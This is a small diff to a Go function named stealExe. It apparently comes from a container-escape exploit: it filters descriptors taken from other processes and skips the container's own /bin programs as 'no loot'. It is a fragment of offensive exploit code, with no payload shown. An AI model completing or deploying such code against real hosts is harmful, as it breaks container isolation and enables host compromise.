@@ -135,6 +135,11 @@ func stealExe() {
 				if err != nil {
 					continue
 				}
+				// By now it may be a program of this container, which is no loot.
+				if target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)); strings.HasPrefix(target, "/bin/") {
+					unix.Close(fd)
+					continue
+				}
 				seen[p] = true
 				opened++
 				fds = append(fds, fd)
